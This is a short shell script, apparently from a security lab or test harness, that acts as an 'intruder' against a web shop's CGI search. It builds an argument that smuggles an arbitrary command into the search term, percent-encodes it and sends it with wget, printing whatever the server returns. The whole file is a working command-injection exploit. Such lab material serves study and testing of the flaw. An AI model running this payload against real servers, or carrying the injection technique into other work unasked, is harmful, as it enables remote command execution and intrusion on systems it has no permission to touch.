#!/bin/sh
# The intruder, through the hole in the search of web: runs COMMAND there and prints what comes back.
# usage: sh attack.sh 'COMMAND'
exec docker run --rm --network "$LAB_NET" -e "SITE=$LAB_WEB" -e "WORD=-e x /dev/null; { $1
} 2>&1 #" "$LAB_BASE" sh -c '
  coded=$(printf %s "$WORD" | od -An -v -tx1 | tr -d " \n" | sed "s/../%&/g")
  timeout 8 wget -q -O - "http://$SITE:8080/cgi-bin/shop?find=$coded"'
